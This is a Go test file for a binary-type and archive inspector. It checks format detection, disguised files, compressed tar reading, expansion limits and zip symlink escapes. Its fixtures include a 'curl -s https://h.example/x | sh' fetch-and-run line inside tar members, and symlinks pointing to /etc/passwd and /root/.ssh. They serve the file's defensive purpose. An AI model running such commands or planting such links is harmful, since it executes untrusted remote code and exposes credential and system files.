package binfmt

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"errors"
	"io"
	"io/fs"
	"strings"
	"testing"

	"github.com/klauspost/compress/zstd"
	"github.com/ulikunitz/xz"
	"github.com/ulikunitz/xz/lzma"
)

func TestDetect(t *testing.T) {
	for name, tc := range map[string]struct {
		b    string
		want Type
	}{
		"a.png":      {"\x7fELF\x02", ELF},
		"a.exe":      {"MZ" + string(make([]byte, 70)), PE},
		"a.jar":      {"PK\x03\x04", Zip},
		"A.class":    {"\xca\xfe\xba\xbe\x00\x00\x00\x41", JavaCls},
		"x.wasm":     {"\x00asm\x01", WASM},
		"photo.jpg":  {"\xff\xd8\xff\xe0", Media},
		"notes.md":   {"# hi", ""},
		"archive.gz": {"\x1f\x8b\x08", Gzip},
	} {
		if got := Detect(name, []byte(tc.b)); got != tc.want {
			t.Errorf("Detect(%s) = %q, want %q", name, got, tc.want)
		}
	}
	if !Disguised("notes.md", Zip) || Disguised("report.docx", Zip) {
		t.Error("Disguised")
	}
}

func FuzzInspect(f *testing.F) {
	f.Add([]byte("PK\x03\x04"))
	f.Add([]byte("\x1f\x8b\x08\x00"))
	f.Add([]byte("\xfd7zXZ\x00\x00"))
	f.Add([]byte("\x28\xb5\x2f\xfd\x00"))
	f.Fuzz(func(t *testing.T, b []byte) {
		ty := Detect("x", b)
		if ty.Archive() {
			_, _ = Inspect("x", b, ty)
		}
	})
}

func tarOf(t *testing.T, files ...[2]string) []byte {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for _, f := range files {
		if err := tw.WriteHeader(&tar.Header{Name: f[0], Mode: 0o644, Size: int64(len(f[1])), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(f[1]))
	}
	tw.Close()
	return b.Bytes()
}

func compress(t *testing.T, kind string, raw []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	var w io.WriteCloser
	var err error
	switch kind {
	case "gz":
		w = gzip.NewWriter(&b)
	case "xz":
		w, err = xz.NewWriter(&b)
	case "lzma":
		w, err = lzma.NewWriter(&b)
	case "zst":
		w, err = zstd.NewWriter(&b)
	}
	if err != nil {
		t.Fatal(err)
	}
	w.Write(raw)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// Every compressed tar attest lists as an archive is opened and its text
// members read.
func TestCompressedTars(t *testing.T) {
	raw := tarOf(t, [2]string{"pkg/setup.sh", "curl -s https://h.example/x | sh\n"})
	for _, kind := range []string{"gz", "xz", "lzma", "zst"} {
		name := "payload.tar." + kind
		b := compress(t, kind, raw)
		ty := Detect(name, b)
		if !ty.Archive() {
			t.Fatalf("%s: detected as %q", name, ty)
		}
		ms, err := Inspect(name, b, ty)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if len(ms) != 1 || ms[0].Name != name+"!/pkg/setup.sh" || !strings.Contains(string(ms[0].Text), "curl") {
			t.Errorf("%s: members %+v", name, ms)
		}
	}
}

// A stream cut by an expansion limit exactly at a member boundary still
// reports the limit: the member after the cut was never seen, although
// the tar read so far ends cleanly.
func TestLimitCutAtMemberBoundary(t *testing.T) {
	first := strings.Repeat("a", 4096)
	raw := tarOf(t, [2]string{"big.txt", first}, [2]string{"run.sh", "curl -s https://h.example/x | sh\n"})
	boundary := 512 + len(first) // the first member's header and data
	gz := compress(t, "gz", raw)
	in := &inspector{expanded: MaxExpandedBytes - int64(boundary)}
	err := in.open("a.tar.gz", gz, Gzip, 0)
	if !errors.Is(err, errArchiveLimit) {
		t.Fatalf("err = %v with members %v; want the limit reported", err, in.members)
	}
	if len(in.members) != 1 || in.members[0].Name != "a.tar.gz!/big.txt" {
		t.Errorf("members %+v", in.members)
	}
	// and by the ratio, anywhere in the stream
	big := tarOf(t, [2]string{"big.txt", strings.Repeat("a", 4<<20)}, [2]string{"run.sh", "x"})
	if _, err := Inspect("b.tar.gz", compress(t, "gz", big), Gzip); !errors.Is(err, errArchiveLimit) {
		t.Fatalf("ratio: err = %v", err)
	}
}

// Zip members that are symlinks out of the extraction directory escape,
// as tar's link members do.
func TestZipSymlinkMembers(t *testing.T) {
	for _, target := range []string{"/etc/passwd", "../../../root/.ssh"} {
		var b bytes.Buffer
		zw := zip.NewWriter(&b)
		h := &zip.FileHeader{Name: "docs/link"}
		h.SetMode(fs.ModeSymlink | 0o777)
		w, _ := zw.CreateHeader(h)
		w.Write([]byte(target))
		zw.Close()
		ms, err := Inspect("a.zip", b.Bytes(), Zip)
		if err != nil || len(ms) != 1 || !ms[0].Escapes || ms[0].Link != target {
			t.Errorf("link to %s: %+v %v", target, ms, err)
		}
	}
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	h := &zip.FileHeader{Name: "docs/link"}
	h.SetMode(fs.ModeSymlink | 0o777)
	w, _ := zw.CreateHeader(h)
	w.Write([]byte("../README.md"))
	zw.Close()
	if ms, _ := Inspect("a.zip", b.Bytes(), Zip); len(ms) != 1 || ms[0].Escapes {
		t.Errorf("a link inside the archive escapes: %+v", ms)
	}
}

// An archive format attest does not read is reported, never silently
// empty.
func TestUnreadFormats(t *testing.T) {
	b := []byte("7z\xbc\xaf\x27\x1c\x00\x04" + strings.Repeat("\x00", 40))
	if _, err := Inspect("a.7z", b, Detect("a.7z", b)); !errors.Is(err, ErrNotOpened) {
		t.Fatalf("err = %v", err)
	}
}

// FuzzInspectLimits walks arbitrary archives under an arbitrary remaining
// expansion budget: it never panics, never keeps more text than the
// budget allowed, and never lists more than MaxMembers+1 members.
func FuzzInspectLimits(f *testing.F) {
	f.Add([]byte("PK\x03\x04"), uint32(1024))
	f.Add([]byte("\x1f\x8b\x08\x00"), uint32(0))
	f.Add([]byte("\xfd7zXZ\x00\x00"), uint32(513))
	f.Fuzz(func(t *testing.T, b []byte, budget uint32) {
		ty := Detect("x.tar.gz", b)
		if !ty.Archive() {
			return
		}
		in := &inspector{expanded: MaxExpandedBytes - int64(budget)}
		_ = in.open("x", b, ty, 0)
		text := 0
		for _, m := range in.members {
			text += len(m.Text)
		}
		if int64(text) > int64(budget) {
			t.Fatalf("kept %d bytes of text with a budget of %d", text, budget)
		}
		if len(in.members) > MaxMembers+1 {
			t.Fatalf("%d members", len(in.members))
		}
	})
}
